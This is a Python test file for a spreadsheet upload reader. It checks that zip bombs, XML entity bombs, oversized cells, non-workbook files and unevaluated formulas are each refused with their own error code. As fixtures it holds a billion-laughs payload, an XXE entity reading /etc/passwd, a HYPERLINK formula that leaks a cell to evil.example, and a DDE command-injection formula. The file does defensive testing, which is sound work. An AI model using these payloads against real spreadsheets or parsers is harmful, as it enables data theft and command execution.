"""The hostile corpus: every file is refused with its own code, quickly, and nothing runs."""

from __future__ import annotations

import random
import zipfile
from pathlib import Path

import openpyxl
import pytest

from linli.intake.errors import IntakeError
from linli.intake.readers import Limits, read_table

from .conftest import add_shared_strings, rewrite_member


def small_xlsx(path: Path, rows: list[list[object]] | None = None) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    for row in rows or [["姓名", "身份证号"], ["张三", "x"]]:
        ws.append(row)
    wb.save(path)
    return path


def refused(source: Path | bytes, filename: str = "f.xlsx", **kw: object) -> IntakeError:
    with pytest.raises(IntakeError) as exc:
        read_table(source, filename=filename, **kw)  # type: ignore[arg-type]
    assert str(exc.value.message)  # there is always a message for the worker
    return exc.value


def test_zip_bomb_is_refused_from_the_directory(tmp_path: Path) -> None:
    path = small_xlsx(tmp_path / "bomb.xlsx")
    rewrite_member(path, "xl/worksheets/sheet1.xml", lambda _xml: b"\0" * (20 * 1024 * 1024))
    info = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml")
    assert info.file_size / info.compress_size > 200
    assert refused(path).code == "zip_bomb"


def test_total_unpacked_size_is_capped(tmp_path: Path) -> None:
    path = small_xlsx(tmp_path / "a.xlsx")
    assert refused(path, limits=Limits(max_uncompressed_bytes=1000)).code == "zip_bomb"


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + b']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    b'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
)


SST = (
    b'<?xml version="1.0"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    b'main" count="1" uniqueCount="1"><si><t>\xe6\x9d\x8e\xe5\x9b\x9b</t></si></sst>'
)


def test_shared_strings_are_read(tmp_path: Path) -> None:
    """The crafted sharedStrings part is used (so the bomb below is really parsed)."""
    path = small_xlsx(tmp_path / "ss.xlsx")
    add_shared_strings(path, SST)
    rewrite_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(
            b'<c r="A2" t="inlineStr"><is><t>\xe5\xbc\xa0\xe4\xb8\x89</t></is></c>',
            b'<c r="A2" t="s"><v>0</v></c>',
        ),
    )
    assert read_table(path, filename="ss.xlsx").rows[0].cells == ("李四", "x")


def test_entity_bomb_in_shared_strings(tmp_path: Path) -> None:
    path = small_xlsx(tmp_path / "lol.xlsx")
    add_shared_strings(path, BILLION_LAUGHS)
    assert refused(path).code == "xml_entities"


def test_entity_in_the_sheet(tmp_path: Path) -> None:
    path = small_xlsx(tmp_path / "lol.xlsx")
    rewrite_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(
            b"<worksheet", b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet', 1
        ),
    )
    assert refused(path).code == "xml_entities"


def test_binary_junk_renamed_xlsx() -> None:
    junk = random.Random(1).randbytes(64 * 1024)
    assert refused(junk, "名单.xlsx").code == "not_spreadsheet"
    assert refused(b"<html><table><tr><td>1</td></tr></table></html>", "x.xls").code == (
        "not_spreadsheet"
    )


def test_zip_that_is_not_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("readme.txt", "hello")
    assert refused(path).code == "not_spreadsheet"


def test_truncated_workbook(tmp_path: Path) -> None:
    data = small_xlsx(tmp_path / "a.xlsx").read_bytes()
    assert refused(data[: len(data) // 2]).code == "corrupt"


def test_other_formats_and_empty_files() -> None:
    assert refused(b"%PDF-1.4", "x.pdf").code == "unsupported_format"
    assert refused(b"", "x.csv").code == "empty"
    assert refused(b"\n\n \n", "x.csv").code == "empty"


def test_ten_megabyte_cell_in_xlsx(tmp_path: Path) -> None:
    # Random hex compresses little, so this is refused for its cell, not as a bomb.
    big = random.Random(2).randbytes(5 * 1024 * 1024).hex()
    path = small_xlsx(tmp_path / "big.xlsx", [["姓名", "备注"], ["张三", big]])
    err = refused(path)
    assert err.code == "cell_too_long"
    assert "B2" not in str(err.message) and "2" in str(err.message)


def test_ten_megabyte_cell_in_csv() -> None:
    data = b"name,notes\nzhang," + b"a" * (10 * 1024 * 1024) + b"\n"
    assert refused(data, "x.csv").code == "line_too_long"


def test_cell_over_the_limit_in_csv() -> None:
    data = b'name,notes\nzhang,"' + b"a" * 20_000 + b'"\n'
    assert refused(data, "x.csv").code == "cell_too_long"
    assert refused(data, "x.csv", max_cell_chars=100).code == "cell_too_long"
    assert read_table(data, filename="x.csv", max_cell_chars=30_000).rows[0].cells[1] == (
        "a" * 20_000
    )


def test_too_many_rows(tmp_path: Path) -> None:
    rows: list[list[object]] = [["姓名", "电话"]] + [[f"人{i}", "13800138000"] for i in range(10)]
    path = small_xlsx(tmp_path / "rows.xlsx", rows)
    assert refused(path, max_rows=5).code == "too_many_rows"
    assert len(read_table(path, filename="rows.xlsx", max_rows=11).rows) == 10
    csv = "\n".join(",".join(str(c) for c in r) for r in rows).encode()
    assert refused(csv, "rows.csv", max_rows=5).code == "too_many_rows"


def test_too_many_columns(tmp_path: Path) -> None:
    path = small_xlsx(tmp_path / "w.xlsx", [["姓名", "电话"] + ["x"] * 600])
    assert refused(path).code == "too_many_columns"


def test_lying_dimension_does_not_pad(tmp_path: Path) -> None:
    path = small_xlsx(tmp_path / "d.xlsx")
    rewrite_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b'<dimension ref="A1:B2"', b'<dimension ref="A1:XFD1048576"'),
    )
    table = read_table(path, filename="d.xlsx")
    assert table.headers == ["姓名", "身份证号"] and len(table.rows) == 1


@pytest.mark.parametrize(
    "formula",
    ["=1+1", '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")', "=cmd|' /C calc'!A0"],
)
def test_formula_without_cached_value_is_refused(tmp_path: Path, formula: str) -> None:
    path = small_xlsx(tmp_path / "f.xlsx", [["姓名", "备注"], ["张三", "ok"], ["李四", formula]])
    err = refused(path)
    assert err.code == "formula_without_value"
    assert "B3" in str(err.message)


def test_formula_with_cached_value_gives_the_value_and_runs_nothing(tmp_path: Path) -> None:
    path = small_xlsx(tmp_path / "f.xlsx", [["姓名", "备注"], ["张三", "=1+1"]])
    rewrite_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b"<f>1+1</f><v></v>", b"<f>1+1</f><v>2</v>").replace(
            b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>"
        ),
    )
    assert read_table(path, filename="f.xlsx").rows[0].cells == ("张三", "2")


def test_formula_in_a_dropped_totals_row_is_harmless(tmp_path: Path) -> None:
    path = small_xlsx(
        tmp_path / "t.xlsx", [["姓名", "人数"], ["张三", 1], ["李四", 1], ["合计", "=SUM(B2:B3)"]]
    )
    table = read_table(path, filename="t.xlsx")
    assert [r.number for r in table.rows] == [2, 3] and table.dropped == [(4, "totals")]


def test_injection_text_is_kept_as_text(tmp_path: Path) -> None:
    """A text cell that looks like a formula is data; escaping is the exporter's job."""
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["姓名", "备注"])
    ws.append(["张三", "x"])
    cell = ws["B2"]
    cell.value = "=cmd|' /C calc'!A0"
    cell.data_type = "s"
    path = tmp_path / "s.xlsx"
    wb.save(path)
    assert read_table(path, filename="s.xlsx").rows[0].cells == ("张三", "=cmd|' /C calc'!A0")


def test_refusals_speak_chinese(tmp_path: Path) -> None:
    from django.utils import translation

    path = small_xlsx(tmp_path / "f.xlsx", [["姓名", "备注"], ["张三", "=1+1"]])
    err = refused(path)
    with translation.override("zh-hans"):
        assert str(err.message).startswith("单元格 B2 是一个从未计算过的公式")
    with translation.override("en"):
        assert str(err.message).startswith("Cell B2 holds a formula")
